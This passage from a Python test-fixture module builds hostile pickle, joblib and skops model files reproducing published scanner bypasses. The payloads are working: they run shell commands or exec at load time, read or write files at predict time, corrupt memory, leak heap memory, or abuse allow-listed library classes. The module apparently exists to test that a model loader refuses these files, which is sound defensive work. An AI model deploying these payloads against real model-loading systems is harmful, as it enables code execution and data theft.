"""Known bypasses of public pickle scanners (picklescan, modelscan, fickling, skops) and
the gadgets found while building the allow list, rebuilt as hostile model files.

Every entry builds a file whose payload would create a *canary* file (``effect="canary"``),
read a file the request names and return its contents in the predictions (``"read"``: the
canary is then the secret file), crash the interpreter with memory corruption
(``"crash"``), hand out uninitialised heap memory of the loading process that predictions
then reveal (``"leak"``), alias one array's memory from another (``"alias"``: a later write
to one changes the other after the checks), or misbehave in a way that has no observable
side effect in a test (``"none"``). ``trigger`` says when the payload runs with the
library's own loader: at ``load`` or at ``predict`` (with ``predict_input`` when the request
itself carries the target, e.g. a file path). The test module proves the payloads are live
(in a subprocess, with the unsafe loaders) and that mlops refuses them.

The last groups are built from allow-listed names only: scikit-learn classes that act on
their *state* at predict time (a red-team finding): ``StackingRegressor`` calling
``getattr(est, meth)(X)`` with a bytes array as ``est`` and ``"tofile"`` as ``meth``,
instance attributes shadowing methods, a ``Bunch`` standing in for an estimator,
``CountVectorizer(input="filename")``, and the gadgets found while closing them; and numpy
arrays constructed directly (``numpy.ndarray`` by REDUCE, NEWOBJ, NEWOBJ_EX with
``buffer=``, INST and OBJ, through a ``partial``, the reconstructors with a real shape,
shared buffers, and the skops nodes that call an array class), which hand out
uninitialised memory or alias another array's.
"""

from __future__ import annotations

import copyreg
import io
import json
import marshal
import operator
import os
import pickle
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Any

import joblib
import numpy as np

from tests.flavors.opcodes import b, call, g, i, lst, proto, sg, tup, u

__all__ = ["BYPASSES", "EXT_CODE", "LEAK_N", "LEAK_VALUE", "Bypass", "register_ext",
           "unregister_ext"]

#: copyreg extension code used by the EXT bypass (registered only inside that test).
EXT_CODE = 0x4D4C


@dataclass(frozen=True)
class Bypass:
    """One hostile file: how to build it, where the technique was published."""

    name: str
    source: str
    build: Callable[[Path], tuple[str, bytes]]
    effect: str = "canary"
    trigger: str = "load"
    #: False where the static scan cannot decide: forged *array contents* (indices inside
    #: raw array bytes) and where an object ends up in the loaded graph. The load-time
    #: checks refuse those (at registration too, which loads the file).
    static: bool = True
    #: The request that aims a predict-time payload: canary path -> rows (a list of rows
    #: for an array, a dict of columns for a data frame). None: two rows of zeros.
    predict_input: Callable[[Path], Any] | None = None


def _touch(canary: Path) -> str:
    return f"touch {canary}"


def _py(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def _pkl(body: bytes, version: int = 4) -> tuple[str, bytes]:
    return "model.pkl", proto(body, version)


class _Reduce:
    """An object whose pickle calls ``func(*args)``."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.func, self.args


def _system(canary: Path) -> _Reduce:
    return _Reduce(os.system, _touch(canary))


# --------------------------------------------------------------------------------------
# gadgets inside allowed packages


def _wrapfunc_chain(canary: Path) -> tuple[str, bytes]:
    # _wrapfunc(obj, name, *args) is getattr(obj, name)(*args): reach the module globals,
    # then its __builtins__, then exec.
    wrap = sg("numpy._core.fromnumeric", "_wrapfunc")
    globals_ = call(wrap, wrap, u("__getattribute__"), u("__globals__"))
    builtins = call(wrap, globals_, u("get"), u("__builtins__"))
    exec_ = call(wrap, builtins, u("get"), u("exec"))
    return _pkl(call(exec_, u(_py(canary))))


def _ufunc_reconstruct(canary: Path) -> tuple[str, bytes]:
    system = call(sg("numpy.core", "_ufunc_reconstruct"), u("os"), u("system"))
    return _pkl(call(system, u(_touch(canary))))


def _numpy_builtins_dict(canary: Path) -> tuple[str, bytes]:
    # modelscan #89, first PoC: builtins.dict.get(numpy.__builtins__, "exec")
    exec_ = g("builtins", "dict.get") + g("numpy", "__builtins__") + u("exec") + \
        pickle.TUPLE2 + pickle.REDUCE
    return _pkl(exec_ + u(_py(canary)) + pickle.TUPLE1 + pickle.REDUCE, 5)


def _numpy_sys_modules_build(canary: Path) -> tuple[str, bytes]:
    # modelscan #89, second PoC: BUILD copies sys.modules onto numpy.prod, then a dotted
    # global reaches prod.os.system.
    body = (g("numpy", "prod") + pickle.NONE + g("numpy", "_core._internal.sys.modules")
            + pickle.TUPLE2 + pickle.BUILD + pickle.POP
            + call(g("numpy", "prod.os.system"), u(_touch(canary))))
    return _pkl(body, 5)


def _numpy_prod_memo(canary: Path) -> tuple[str, bytes]:
    # modelscan #85: BUILD stores "os"/"system" on numpy.prod, PUT/GET feed STACK_GLOBAL.
    def setattr_(key: str, value: str) -> bytes:
        return pickle.NONE + pickle.MARK + u(key) + u(value) + pickle.DICT + \
            pickle.TUPLE2 + pickle.BUILD
    body = (g("numpy", "prod") + setattr_("a", "os") + setattr_("b", "system") + pickle.POP
            + g("numpy", "prod.a") + pickle.PUT + b"0\n" + g("numpy", "prod.b")
            + pickle.PUT + b"1\n" + pickle.POP + pickle.POP
            + pickle.GET + b"0\n" + pickle.GET + b"1\n" + pickle.STACK_GLOBAL
            + u(_touch(canary)) + pickle.TUPLE1 + pickle.REDUCE)
    return _pkl(body, 5)


def _numpy_size_poly1d(canary: Path) -> tuple[str, bytes]:
    # mindspore #183: numpy.size(a, axis) returns a.shape[axis]; give a poly1d a "shape".
    poly = call(sg("numpy", "poly1d"), lst(i(1)))
    state = pickle.EMPTY_DICT + u("shape") + g("numpy", "__builtins__") + pickle.SETITEM
    exec_ = sg("numpy", "size") + poly + state + pickle.BUILD + u("exec") + \
        pickle.TUPLE2 + pickle.REDUCE
    return _pkl(exec_ + u(_py(canary)) + pickle.TUPLE1 + pickle.REDUCE)


def _f2py_getlincoef(canary: Path) -> tuple[str, bytes]:
    expr = f"__import__('os').system({_touch(canary)!r})"
    xset = pickle.EMPTY_SET + pickle.MARK + u("x") + pickle.ADDITEMS
    return _pkl(call(sg("numpy.f2py.crackfortran", "getlincoef"), u(expr), xset))


def _distutils_exec_command(canary: Path) -> tuple[str, bytes]:
    return _pkl(call(sg("numpy.distutils.exec_command", "exec_command"), u(_touch(canary))))


def _numpy_memmap(canary: Path) -> tuple[str, bytes]:
    return _pkl(call(sg("numpy", "memmap"), u(str(canary)), u("uint8"), u("w+"), i(0),
                     tup(i(1))))


def _pandas_hdfstore(canary: Path) -> tuple[str, bytes]:
    return _pkl(call(sg("pandas.io.pytables", "HDFStore"), u(str(canary)), u("w")))


def _xgboost_booster_model_file(canary: Path) -> tuple[str, bytes]:
    # An allowed class whose constructor reads the file its argument names.
    return _pkl(call(sg("xgboost.core", "Booster"), pickle.NONE, pickle.NONE, u("/dev/null")))


def _lightgbm_booster_as_value(canary: Path) -> tuple[str, bytes]:
    # The class kept as a value, to be called later (e.g. as FunctionTransformer.func).
    return _pkl(pickle.EMPTY_DICT + u("func") + sg("lightgbm.basic", "Booster")
                + pickle.SETITEM)


def _numpy_savetxt(canary: Path) -> tuple[str, bytes]:
    return _pkl(call(sg("numpy.lib._npyio_impl", "savetxt"), u(str(canary)), lst(i(1))))


# --------------------------------------------------------------------------------------
# stdlib primitives missing from deny lists


def _reduce(canary: Path) -> tuple[str, bytes]:
    return "model.pkl", pickle.dumps(_system(canary), protocol=2)


def _builtin_py2_names(canary: Path) -> tuple[str, bytes]:
    # __builtin__ is mapped to builtins for protocols < 3
    os_ = call(g("__builtin__", "__import__"), u("os"))
    system = call(g("__builtin__", "getattr"), os_, u("system"))
    return _pkl(call(system, u(_touch(canary))), 2)


def _codecs_module_name(canary: Path) -> tuple[str, bytes]:
    # The module name is computed (rot13 of "bf") so no literal "os" appears.
    module = call(sg("_codecs", "encode"), u("bf"), u("rot13"))
    body = module + u("system") + pickle.STACK_GLOBAL + u(_touch(canary)) + \
        pickle.TUPLE1 + pickle.REDUCE
    return _pkl(body)


def _operator_methodcaller(canary: Path) -> tuple[str, bytes]:
    caller = call(sg("_operator", "methodcaller"), u("system"), u(_touch(canary)))
    module = call(sg("importlib", "import_module"), u("os"))
    return _pkl(call(caller, module))


def _operator_attrgetter(canary: Path) -> tuple[str, bytes]:
    getter = call(sg("operator", "attrgetter"), u("system"))
    system = call(getter, call(sg("importlib", "import_module"), u("os")))
    return _pkl(call(system, u(_touch(canary))))


def _functools_partial(canary: Path) -> tuple[str, bytes]:
    wrapped = call(sg("functools", "partial"), sg("os", "system"), u(_touch(canary)))
    return _pkl(wrapped + pickle.EMPTY_TUPLE + pickle.REDUCE)


def _pkgutil_resolve_name(canary: Path) -> tuple[str, bytes]:
    system = call(sg("pkgutil", "resolve_name"), u("os:system"))
    return _pkl(call(system, u(_touch(canary))))


def _importlib_import_module(canary: Path) -> tuple[str, bytes]:
    module = call(sg("importlib", "import_module"), u("os"))
    system = call(sg("builtins", "getattr"), module, u("system"))
    return _pkl(call(system, u(_touch(canary))))


def _marshal_loads(canary: Path) -> tuple[str, bytes]:
    code = marshal.dumps(compile(_py(canary), "<payload>", "exec"))
    func = call(sg("types", "FunctionType"), call(sg("marshal", "loads"), b(code)),
                pickle.EMPTY_DICT)
    return _pkl(func + pickle.EMPTY_TUPLE + pickle.REDUCE)


def _pip_main(canary: Path) -> tuple[str, bytes]:
    args = lst(u("--log"), u(str(canary)), u("list"), u("--disable-pip-version-check"))
    return _pkl(call(sg("pip", "main"), args))


def _cprofile_run(canary: Path) -> tuple[str, bytes]:
    return _pkl(call(sg("cProfile", "run"), u(_py(canary))))


def _idlelib_eval(canary: Path) -> tuple[str, bytes]:
    expr = f"__import__('os').system({_touch(canary)!r})"
    return _pkl(call(sg("idlelib.calltip", "get_entity"), u(expr)))


def _nested_pickle(canary: Path) -> tuple[str, bytes]:
    inner = pickle.dumps(_system(canary), protocol=2)
    return _pkl(call(sg("_pickle", "loads"), b(inner)))


def _io_fileio(canary: Path) -> tuple[str, bytes]:
    return _pkl(call(sg("_io", "FileIO"), u(str(canary)), u("w")))


def _distutils_write_file(canary: Path) -> tuple[str, bytes]:
    return _pkl(call(sg("distutils.file_util", "write_file"), u(str(canary)), lst(u("x"))))


def _asyncio_transport(canary: Path) -> tuple[str, bytes]:
    args = lst(u("sh"), u("-c"), u(_touch(canary)))
    return _pkl(call(sg("asyncio.unix_events", "_UnixSubprocessTransport"), pickle.NONE,
                     pickle.NONE, args, pickle.NEWFALSE))


def _subinterpreter(canary: Path) -> tuple[str, bytes]:
    interp = call(sg("_xxsubinterpreters", "create"))
    return _pkl(call(sg("_xxsubinterpreters", "run_string"), interp, u(_py(canary))))


def _spawnv_passfds(canary: Path) -> tuple[str, bytes]:
    argv = tup(u("/bin/sh"), u("-c"), u(_touch(canary)))
    return _pkl(call(sg("multiprocessing.util", "spawnv_passfds"), b(b"/bin/sh"), argv,
                     pickle.EMPTY_TUPLE))


def _mlflow_entry_point(canary: Path) -> tuple[str, bytes]:
    return _pkl(call(sg("mlflow.projects.backend.local", "_run_entry_point"),
                     u(_touch(canary)), u("."), u("0"), u("0")))


def _memo_confusion(canary: Path) -> tuple[str, bytes]:
    # picklescan #14: BINPUT and MEMOIZE interleaved so a naive memo model believes the
    # STACK_GLOBAL reads "torch._utils" / "_rebuild_tensor_v2".
    body = (u("os") + pickle.BINPUT + b"\x00" + u("system") + pickle.BINPUT + b"\x01"
            + u("torch._utils") + pickle.MEMOIZE + u("_rebuild_tensor_v2") + pickle.MEMOIZE
            + pickle.POP * 4 + pickle.BINGET + b"\x00" + pickle.BINGET + b"\x01"
            + pickle.STACK_GLOBAL + u(_touch(canary)) + pickle.TUPLE1 + pickle.REDUCE)
    return _pkl(body)


def _ext_opcode(canary: Path) -> tuple[str, bytes]:
    # nltk #3757: EXT codes resolve through copyreg's registry (and the unpickler's cache),
    # not through the GLOBAL opcodes a scanner looks at.
    body = pickle.EXT2 + struct.pack("<H", EXT_CODE) + u(_touch(canary)) + \
        pickle.TUPLE1 + pickle.REDUCE
    return _pkl(body, 2)


def _broken_stream(canary: Path) -> tuple[str, bytes]:
    # nullifAI: the payload runs first, the stream is broken right after it.
    data = pickle.dumps(_system(canary), protocol=2)[:-1] + b"\xff\xfe broken"
    return "model.pkl", data


# --------------------------------------------------------------------------------------
# joblib specifics


def _joblib(obj: Any, **kwargs: Any) -> tuple[str, bytes]:
    buf = io.BytesIO()
    joblib.dump(obj, buf, **kwargs)
    return "model.joblib", buf.getvalue()


def _joblib_compressed(kind: Any) -> Callable[[Path], tuple[str, bytes]]:
    def build(canary: Path) -> tuple[str, bytes]:
        return _joblib({"w": np.zeros(50), "x": _system(canary)}, compress=kind)
    return build


def _joblib_object_array(canary: Path) -> tuple[str, bytes]:
    return _joblib({"objects": np.array([1, _system(canary)], dtype=object),
                    "w": np.ones(5)})


def _joblib_dtype_flags(canary: Path) -> tuple[str, bytes]:
    # Forged dtype flags make joblib read a float "array" as a nested pickle.
    wrapper = (sg("joblib.numpy_pickle", "NumpyArrayWrapper") + pickle.EMPTY_TUPLE
               + pickle.NEWOBJ + pickle.EMPTY_DICT + pickle.MARK
               + u("subclass") + sg("numpy", "ndarray") + u("shape") + tup(i(1))
               + u("order") + u("C") + u("dtype") + _dtype("f8", "<", 63)
               + pickle.SETITEMS + pickle.BUILD)
    nested = pickle.dumps(_system(canary), protocol=2)
    return "model.joblib", pickle.PROTO + b"\x04" + wrapper + nested + pickle.STOP


# --------------------------------------------------------------------------------------
# memory corruption with allow-listed names only (found while building the allow list)


def _dtype(spec: str, endian: str, flags: int, elsize: int = -1,
           fields: bytes = pickle.NONE, names: bytes = pickle.NONE) -> bytes:
    state = tup(i(3), u(endian), pickle.NONE, names, fields, i(elsize), i(-1), i(flags))
    return call(sg("numpy", "dtype"), u(spec), pickle.NEWFALSE, pickle.NEWTRUE) + \
        state + pickle.BUILD


def _array(dtype: bytes, shape: tuple[int, ...], raw: bytes) -> bytes:
    empty = call(sg("numpy._core.multiarray", "_reconstruct"), sg("numpy", "ndarray"),
                 tup(i(0)), b(b"b"))
    state = tup(i(1), tup(*(i(d) for d in shape)), dtype, pickle.NEWFALSE, b(raw))
    return empty + state + pickle.BUILD


def _dtype_object_flags(canary: Path) -> tuple[str, bytes]:
    # An object dtype whose flags say "plain data": raw file bytes become object pointers.
    return _pkl(_array(_dtype("O8", "|", 0), (1,), b"\x41" * 8))


def _dtype_field_offset(canary: Path) -> tuple[str, bytes]:
    field = tup(_dtype("f8", "<", 0), i(1 << 20))
    fields = pickle.EMPTY_DICT + u("a") + field + pickle.SETITEM
    dtype = _dtype("V8", "|", 16, 8, fields, tup(u("a")))
    return _pkl(_array(dtype, (1,), b"\x00" * 8))


def _pandas_placement(canary: Path) -> tuple[str, bytes]:
    import pandas as pd

    frame = pd.DataFrame({"a": [1.0, 2.0], "b": [3.0, 4.0]})
    reduced: Any = frame._mgr.__reduce_ex__(2)
    blocks, axes = reduced[1]
    bad = _Reduce(_unpickle_block(), blocks[0].values, np.array([0, 50_000_000]), 2)
    manager = _Reduce(type(frame._mgr), (bad,), axes)
    return "model.pkl", pickle.dumps(_Reduce(_frame_from_manager(), manager), protocol=4)


def _unpickle_block() -> Any:
    from pandas._libs.internals import _unpickle_block

    return _unpickle_block


def _frame_from_manager() -> Any:
    import pandas as pd

    return pd.DataFrame


def _multiindex_codes(canary: Path) -> tuple[str, bytes]:
    import pandas as pd

    index = pd.MultiIndex.from_arrays([[1, 2], ["a", "b"]])
    reduced: Any = index.__reduce__()
    func, (cls, state) = reduced[:2]
    state = dict(state, codes=[np.array([0, 50_000_000]), np.array([0, 1])])
    return "model.pkl", pickle.dumps(_Reduce(func, cls, state), protocol=4)


def _tree_children(canary: Path) -> tuple[str, bytes]:
    from sklearn.tree import DecisionTreeClassifier

    rng = np.random.default_rng(0)
    x = rng.normal(size=(40, 3))
    tree = DecisionTreeClassifier(max_depth=2, random_state=0).fit(x, x[:, 0] > 0)
    data = pickle.dumps(tree, protocol=4)
    nodes = tree.tree_.__getstate__()["nodes"]
    original = nodes.tobytes()
    forged = nodes.copy()
    forged["left_child"][0] = forged["right_child"][0] = 50_000_000
    assert original in data
    return "model.pkl", data.replace(original, forged.tobytes())


def _build_on_class(canary: Path) -> tuple[str, bytes]:
    # modelscan #85 class: BUILD sets attributes on a library class (monkeypatching).
    patch = pickle.NONE + pickle.EMPTY_DICT + u("predict") + \
        sg("sklearn.utils.validation", "check_array") + pickle.SETITEM + pickle.TUPLE2
    return _pkl(sg("sklearn.linear_model._logistic", "LogisticRegression") + patch
                + pickle.BUILD)


def _setitem_into_array(canary: Path) -> tuple[str, bytes]:
    arr = _array(_dtype("i8", "<", 0), (2,), b"\x00" * 16)
    return _pkl(arr + i(0) + i(50_000_000) + pickle.SETITEM)


# --------------------------------------------------------------------------------------
# numpy arrays constructed directly: uninitialised memory and aliased memory (allow-listed
# names only). Legitimate files rebuild arrays with ``_reconstruct(cls, (0,), "b")`` +
# ``__setstate__``, ``_frombuffer(bytes)`` or joblib's NumpyArrayWrapper (skops: np.load).

#: Length of the leaking ``coef_`` (800 bytes of float64: numpy serves allocations that
#: small from a cache of freed buffers, so the payload gets memory the process used before).
LEAK_N = 100
#: What the liveness harness leaves in freed memory before loading a "leak" payload.
LEAK_VALUE = 7.25
_MEMO = 4000  # memo slots of the hand-written streams (far from the pickler's own)


def _f8(value: float) -> bytes:
    return pickle.BINFLOAT + struct.pack(">d", value)


def _put(index: int) -> bytes:
    return pickle.LONG_BINPUT + struct.pack("<I", index)


def _get(index: int) -> bytes:
    return pickle.LONG_BINGET + struct.pack("<I", index)


def _linear(coef: bytes, n: int = LEAK_N, extra: bytes = b"") -> tuple[str, bytes]:
    """A fitted LinearRegression written by hand whose ``coef_`` is what ``coef`` pushes
    (``extra``: more attributes); ``predict(eye(n))`` returns ``coef_`` itself."""
    import sklearn

    state = (u("fit_intercept") + pickle.NEWTRUE + u("copy_X") + pickle.NEWTRUE
             + u("tol") + _f8(1e-6) + u("n_jobs") + pickle.NONE + u("positive")
             + pickle.NEWFALSE + u("n_features_in_") + i(n) + u("coef_") + coef
             + u("rank_") + i(n) + u("intercept_") + _f8(0.0) + extra
             + u("_sklearn_version") + u(sklearn.__version__))
    return _pkl(sg("sklearn.linear_model._base", "LinearRegression") + pickle.EMPTY_TUPLE
                + pickle.NEWOBJ + pickle.EMPTY_DICT + pickle.MARK + state + pickle.SETITEMS
                + pickle.BUILD)


def _eye(canary: Path) -> list[list[float]]:
    """The request that reads ``coef_`` back: one unit row per feature."""
    return np.eye(LEAK_N).tolist()


_NDARRAY = sg("numpy", "ndarray")
_SHAPE = tup(i(LEAK_N))


def _ndarray_reduce(canary: Path) -> tuple[str, bytes]:
    # numpy.ndarray((100,), "f8"): 800 bytes nobody initialised.
    return _linear(call(_NDARRAY, _SHAPE, u("f8")))


def _ndarray_newobj(canary: Path) -> tuple[str, bytes]:
    # ndarray.__new__(ndarray, (100,), "f8")
    return _linear(_NDARRAY + tup(_SHAPE, u("f8")) + pickle.NEWOBJ)


def _ndarray_inst(canary: Path) -> tuple[str, bytes]:
    return _linear(pickle.MARK + _SHAPE + u("f8") + pickle.INST + b"numpy\nndarray\n")


def _ndarray_obj(canary: Path) -> tuple[str, bytes]:
    return _linear(pickle.MARK + _NDARRAY + _SHAPE + u("f8") + pickle.OBJ)


def _partial_ndarray(canary: Path) -> tuple[str, bytes]:
    # partial(numpy.ndarray, (100,), "f8")(): the partial calls the class, not the file.
    made = call(sg("functools", "partial"), _NDARRAY, _SHAPE, u("f8"))
    return _linear(made + pickle.EMPTY_TUPLE + pickle.REDUCE)


def _partial_ndarray_obj(canary: Path) -> tuple[str, bytes]:
    made = call(sg("functools", "partial"), _NDARRAY, _SHAPE, u("f8"))
    return _linear(pickle.MARK + made + pickle.OBJ)


def _partial_booster(canary: Path) -> tuple[str, bytes]:
    # The same route around NO_CALL_CLASSES: Booster(model_file=...) through a partial.
    made = call(sg("functools", "partial"), sg("xgboost.core", "Booster"), pickle.NONE,
                pickle.NONE, u(str(canary)))
    return _pkl(made + pickle.EMPTY_TUPLE + pickle.REDUCE)


def _checked_coef(n: int = LEAK_N) -> bytes:
    """A legitimate float64 ``coef_`` (``_reconstruct`` + ``__setstate__``), memoized."""
    raw = struct.pack(f"<{n}d", *range(n))
    return _array(_dtype("f8", "<", 0), (n,), raw) + _put(_MEMO)


def _ndarray_newobj_ex_buffer(canary: Path) -> tuple[str, bytes]:
    # ndarray.__new__(ndarray, shape=(100,), dtype="f8", buffer=coef_): singular_ is a
    # second, writable view of coef_'s memory.
    kwargs = (pickle.EMPTY_DICT + pickle.MARK + u("shape") + _SHAPE + u("dtype") + u("f8")
              + u("buffer") + _get(_MEMO) + pickle.SETITEMS)
    alias = _NDARRAY + pickle.EMPTY_TUPLE + kwargs + pickle.NEWOBJ_EX
    return _linear(_checked_coef(), extra=u("singular_") + alias)


def _reconstruct_shape(canary: Path) -> tuple[str, bytes]:
    # The legitimate reconstructor with a real shape and no __setstate__ after it.
    return _linear(call(sg("numpy._core.multiarray", "_reconstruct"), _NDARRAY, _SHAPE,
                        u("f8")))


def _mareconstruct_shape(canary: Path) -> tuple[str, bytes]:
    masked = call(sg("numpy.ma.core", "_mareconstruct"), sg("numpy.ma", "MaskedArray"),
                  _NDARRAY, _SHAPE, u("f8"))
    return _linear(_checked_coef(), extra=u("singular_") + masked)


def _reconstructor_ndarray_base(canary: Path) -> tuple[str, bytes]:
    # Protocol 0/1 objects: copyreg._reconstructor(cls, base, state) is
    # base.__new__(cls, state), here ndarray.__new__(ndarray, (100,)).
    return _linear(call(sg("copyreg", "_reconstructor"), _NDARRAY, _NDARRAY, _SHAPE))


def _masked_array_call(canary: Path) -> tuple[str, bytes]:
    # MaskedArray(coef_) keeps coef_'s memory as its data (copy=False).
    alias = call(sg("numpy.ma", "MaskedArray"), _get(_MEMO))
    return _linear(_checked_coef(), extra=u("singular_") + alias)


def _f8_dtype() -> bytes:
    return _dtype("f8", "<", 0)


def _frombuffer_of_array(canary: Path) -> tuple[str, bytes]:
    # _frombuffer takes any buffer: another array's memory too.
    alias = call(sg("numpy._core.numeric", "_frombuffer"), _get(_MEMO), _f8_dtype(),
                 _SHAPE, u("C"))
    return _linear(_checked_coef(), extra=u("singular_") + alias)


def _frombuffer_shared_bytearray(canary: Path) -> tuple[str, bytes]:
    # Two protocol-5 arrays over the same (memoized) bytearray.
    memory = pickle.BYTEARRAY8 + struct.pack("<Q", 8 * LEAK_N) + b"\x00" * (8 * LEAK_N)

    def view(buf: bytes) -> bytes:
        return call(sg("numpy._core.numeric", "_frombuffer"), buf, _f8_dtype(), _SHAPE,
                    u("C"))
    return _linear(view(memory + _put(_MEMO)), extra=u("singular_") + view(_get(_MEMO)))


def _setstate_shared_bytes(canary: Path) -> tuple[str, bytes]:
    # ndarray.__setstate__ keeps (does not copy) raw data over 1000 bytes: two arrays
    # built from the same memoized bytes share it, and both are writable.
    n = 2 * LEAK_N
    raw = b(struct.pack(f"<{n}d", *range(n))) + _put(_MEMO)
    state = tup(i(1), tup(i(n)), _f8_dtype(), pickle.NEWFALSE, raw)
    again = tup(i(1), tup(i(n)), _f8_dtype(), pickle.NEWFALSE, _get(_MEMO))
    empty = call(sg("numpy._core.multiarray", "_reconstruct"), _NDARRAY, tup(i(0)), b(b"b"))
    return _linear(empty + state + pickle.BUILD, n,
                   extra=u("singular_") + empty + again + pickle.BUILD)


# ---- the same in skops files (hand-edited schema.json)


def _json(value: Any) -> dict[str, Any]:
    return {"__class__": type(value).__name__, "__module__": "builtins",
            "__loader__": "JsonNode", "content": json.dumps(value), "is_json": True}


def _node(loader: str, cls: str, module: str, **fields: Any) -> dict[str, Any]:
    return {"__class__": cls, "__module__": module, "__loader__": loader, **fields}


def _tuple(*items: dict[str, Any]) -> dict[str, Any]:
    return _node("TupleNode", "tuple", "builtins", content=list(items))


def _skops_linear(edit: Callable[[dict[str, Any]], None]) -> tuple[str, bytes]:
    """A fitted LinearRegression saved with skops, its attribute nodes edited."""
    import skops.io as sio
    from sklearn.linear_model import LinearRegression

    lr = LinearRegression().fit(np.eye(LEAK_N)[:4], np.arange(4.0))
    lr.intercept_ = 0.0  # predict(eye(n)) is coef_ itself
    data = sio.dumps(lr)
    with zipfile.ZipFile(io.BytesIO(data)) as src:
        schema = json.loads(src.read("schema.json"))
        files = {name: src.read(name) for name in src.namelist() if name != "schema.json"}
    edit(schema["content"]["content"])
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        dst.writestr("schema.json", json.dumps(schema))
        for name, blob in files.items():
            dst.writestr(name, blob)
    return "model.skops", out.getvalue()


def _cached(node: dict[str, Any]) -> dict[str, Any]:
    return _node("CachedNode", node["__class__"], node["__module__"], __id__=node["__id__"])


def _skops_list_node(canary: Path) -> tuple[str, bytes]:
    # ListNode calls its class with the list: numpy.ndarray([100]).
    def edit(attrs: dict[str, Any]) -> None:
        attrs["coef_"] = _node("ListNode", "ndarray", "numpy", content=[_json(LEAK_N)])
    return _skops_linear(edit)


def _skops_loss_node(canary: Path) -> tuple[str, bytes]:
    # LossNode calls the class it names with its reduce arguments.
    def edit(attrs: dict[str, Any]) -> None:
        empty = _node("DictNode", "dict", "builtins", content={},
                      key_types=_node("ListNode", "list", "builtins", content=[]))
        attrs["coef_"] = _node("LossNode", "ndarray", "numpy",
                               __reduce__={"args": _tuple(_json(LEAK_N))}, content=empty)
    return _skops_linear(edit)


def _skops_constructor_buffer(canary: Path) -> tuple[str, bytes]:
    # ConstructorFromReduceNode: numpy.ndarray(4, "f8", coef_) views coef_'s memory.
    def edit(attrs: dict[str, Any]) -> None:
        attrs["singular_"] = _node("ConstructorFromReduceNode", "ndarray", "numpy",
                                   content=_tuple(_json(4), _json("f8"),
                                                  _cached(attrs["coef_"])))
    return _skops_linear(edit)


def _skops_masked_array_shared_data(canary: Path) -> tuple[str, bytes]:
    # MaskedArrayNode builds MaskedArray(data, mask): data that is another array of the
    # file (a CachedNode) is kept, not copied.
    def edit(attrs: dict[str, Any]) -> None:
        attrs["singular_"] = _node("MaskedArrayNode", "MaskedArray", "numpy.ma",
                                   content={"data": _cached(attrs["coef_"]),
                                            "mask": _json(False)})
    return _skops_linear(edit)


# --------------------------------------------------------------------------------------
# skops


def _skops_pipeline(func: Any) -> tuple[str, bytes]:
    import skops.io as sio
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer

    x = np.random.default_rng(0).normal(size=(30, 2))
    pipe = make_pipeline(FunctionTransformer(), LogisticRegression()).fit(x, x[:, 0] > 0)
    pipe[0].func = func  # swapped in after fitting, as a hostile file would have it
    return "model.skops", sio.dumps(pipe)


def _skops_exec(canary: Path) -> tuple[str, bytes]:
    import builtins

    return _skops_pipeline(builtins.exec)


def _skops_savetxt(canary: Path) -> tuple[str, bytes]:
    return _skops_pipeline(partial(np.savetxt, str(canary)))


def _skops_methodcaller(canary: Path) -> tuple[str, bytes]:
    return _skops_pipeline(operator.methodcaller("tofile", str(canary)))


def _skops_method_node(canary: Path) -> tuple[str, bytes]:
    return _skops_pipeline(np.zeros(1).tofile)


def _skops_map_type(canary: Path) -> tuple[str, bytes]:
    # builtins.map is trusted by skops by default (a container type); not by mlops.
    return _skops_pipeline(map)


# --------------------------------------------------------------------------------------
# allowed scikit-learn classes acting on their state (allow-listed names only)


def _path_rows(canary: Path) -> list[list[float]]:
    """The request that names the canary: one byte of its path per row."""
    return [[float(c)] for c in str(canary).encode()]


def _secret_frame(canary: Path) -> dict[str, list[str]]:
    return {"path": [str(canary)]}


def _stacking(width: int = 1) -> Any:
    from sklearn.ensemble import StackingRegressor
    from sklearn.linear_model import LinearRegression

    x = np.arange(6 * width, dtype=float).reshape(6, width)
    return StackingRegressor([("a", LinearRegression())], final_estimator=LinearRegression(),
                             cv=2).fit(x, np.arange(6, dtype=float))


def _to_path_steps() -> list[tuple[str, Any]]:
    # partial(check_array, dtype=uint8) turns the request's numbers into bytes, and
    # FunctionTransformer(bytes) turns the array into its raw bytes: the path.
    from sklearn.preprocessing import FunctionTransformer
    from sklearn.utils.validation import check_array

    return [("u8", FunctionTransformer(func=partial(check_array, dtype=np.uint8),
                                       validate=False)),
            ("path", FunctionTransformer(func=bytes, validate=False))]


def _writer(shadow: bool) -> Any:
    from sklearn.pipeline import Pipeline
    from sklearn.utils._bunch import Bunch
    from sklearn.utils.validation import check_array

    st = _stacking()
    st.estimators_ = [np.array(b"REDTEAM: bytes written by predict\n")]  # a 0-d |S array
    st.stack_method_ = ["tofile"]  # getattr(payload, "tofile")(path) at predict time
    if shadow:  # /tmp/redteam/filewrite/build4.py: predict then returns normally
        passthru = partial(check_array, ensure_2d=False, ensure_min_samples=0, dtype=None,
                           ensure_all_finite=False)
        st._concatenate_predictions = passthru  # an instance attribute shadows the method
        st.final_estimator_ = Bunch(predict=passthru)  # attribute access = item access
    return Pipeline([*_to_path_steps(), ("write", st)])


def _stacking_tofile(canary: Path) -> tuple[str, bytes]:
    return _joblib(_writer(shadow=False))


def _stacking_tofile_shadowed(canary: Path) -> tuple[str, bytes]:
    return _joblib(_writer(shadow=True))


def _stacking_tofile_skops(canary: Path) -> tuple[str, bytes]:
    import skops.io as sio

    return "model.skops", sio.dumps(_writer(shadow=False))


def _reader(input_kind: str) -> Any:
    # /tmp/redteam/fileread/build.py: the vectorizer opens the path the request names and
    # a linear model with an identity coef_ returns the file's character counts.
    import string

    import pandas as pd
    import scipy.sparse as sp
    from sklearn.compose import ColumnTransformer
    from sklearn.feature_extraction.text import CountVectorizer
    from sklearn.linear_model import LinearRegression
    from sklearn.pipeline import Pipeline

    vocab = [c for c in string.printable if c not in "\t\n\r\x0b\x0c"]
    cv = CountVectorizer(analyzer="char", lowercase=False, encoding="latin-1",
                         vocabulary=vocab)
    ct = ColumnTransformer([("v", cv, "path")], sparse_threshold=1.0)
    ct.fit(pd.DataFrame({"path": ["a", "b"]}))
